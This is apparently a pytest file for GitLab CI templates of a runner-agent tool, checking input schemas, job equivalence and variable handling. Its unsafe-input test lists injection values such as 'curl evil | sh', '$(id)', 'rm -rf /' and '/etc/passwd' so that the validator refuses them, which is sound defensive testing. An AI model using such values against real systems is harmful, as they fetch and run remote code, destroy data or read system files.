"""The shipped agent project pipeline and CI/CD component: valid, equivalent, safe inputs."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from runner_agent.core.resources import templates_dir
from runner_agent.pipeline import ci_schema

PARENT = templates_dir() / "agent-project.gitlab-ci.yml"
COMPONENT_DIR = templates_dir() / "component"
COMPONENT = COMPONENT_DIR / "templates" / "agent.yml"


def _spec_and_jobs(path: Path, inputs: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
    header, config = yaml.safe_load_all(path.read_text())
    return header["spec"]["inputs"], ci_schema.interpolate(header, config, inputs)


@pytest.mark.parametrize("path", [PARENT, COMPONENT], ids=["parent", "component"])
@pytest.mark.parametrize(
    "inputs",
    [
        {},
        {"task_file": "tasks/web.yml", "runner_tags": ["acme-dc1", "runner-agent"]},
        {"identity": "acme/web", "command": "cycle", "max_jobs": 200},
        {"dispatch_id": "d-42", "checksum": "sha256:" + "a" * 64, "default_tags": "a,b"},
    ],
)
def test_valid_for_gitlab(path: Path, inputs: dict[str, Any]) -> None:
    assert ci_schema.problems(path.read_text(), path.name, inputs=inputs) == []


@pytest.mark.parametrize("path", [PARENT, COMPONENT], ids=["parent", "component"])
@pytest.mark.parametrize(
    "inputs",
    [
        {"task_file": "tasks/web.yml; curl evil | sh"},
        {"task_file": "/etc/passwd"},
        {"identity": "Acme Web"},
        {"identity": "acme/$(id)"},
        {"command": "update\nrm -rf /"},
        {"checksum": "md5:abc"},
        {"default_tags": "a, b"},
        {"runner_agent": "runner-agent; id"},
        {"unknown": "x"},
    ],
)
def test_unsafe_inputs_are_refused(path: Path, inputs: dict[str, Any]) -> None:
    assert ci_schema.problems(path.read_text(), path.name, inputs=inputs)


def test_component_has_the_same_jobs_as_the_parent() -> None:
    _, parent = _spec_and_jobs(PARENT, {})
    _, component = _spec_and_jobs(COMPONENT, {"plan_stage": "plan", "stage": "agents"})
    assert "stages" not in component  # a component leaves the stages to the includer
    del parent["stages"]
    assert component == parent


def test_parent_plans_then_triggers_the_child_from_the_plan_artifact() -> None:
    _, jobs = _spec_and_jobs(PARENT, {})
    plan, run = jobs["runner-agent-plan"], jobs["runner-agent-run"]
    assert plan["script"] == ["runner-agent plan --file .runner-agent/pipeline.yml"]
    assert plan["artifacts"] == {"paths": [".runner-agent/"], "expire_in": "30 days"}
    assert plan["tags"] == ["runner-agent"]
    assert run["trigger"] == {
        "include": [{"artifact": ".runner-agent/pipeline.yml", "job": "runner-agent-plan"}],
        "strategy": "depend",
    }
    # RA_ONE_JOB: its rules' own (it inherits no global variable); empty, not a small dispatch
    assert run["variables"] == {"PARENT_PIPELINE_ID": "$CI_PIPELINE_ID", "RA_ONE_JOB": ""}
    assert run["needs"] == ["runner-agent-plan"]


@pytest.mark.parametrize("path", [PARENT, COMPONENT], ids=["parent", "component"])
def test_inputs_reach_the_plan_job_only_as_variables(path: Path) -> None:
    spec, _ = _spec_and_jobs(path, {})
    assert len(spec) <= 20  # GitLab's limit
    text = path.read_text().split("\n---\n", 1)[1]
    script = text[text.index("  script:") : text.index("  artifacts:")]
    assert re.findall(r"inputs\.(\w+)", script) == ["runner_agent"]
    for name, rule in spec.items():
        assert rule.get("description"), name
        if rule.get("type", "string") == "string" and name not in ("plan_stage", "stage"):
            assert rule["regex"].startswith("^"), name
            re.compile(rule["regex"])
    for name in ("task_file", "identity", "agent", "command", "dispatch_id", "checksum"):
        assert f'RA_{name.upper()}: "$[[ inputs.{name} ]]"' in text


def test_component_project_layout_can_be_published() -> None:
    assert (COMPONENT_DIR / "README.md").is_file()
    release = (COMPONENT_DIR / ".gitlab-ci.yml").read_text()
    assert ci_schema.problems(release, "component .gitlab-ci.yml") == []
    assert "release:" in release
    assert sorted(p.name for p in (COMPONENT_DIR / "templates").iterdir()) == ["agent.yml"]
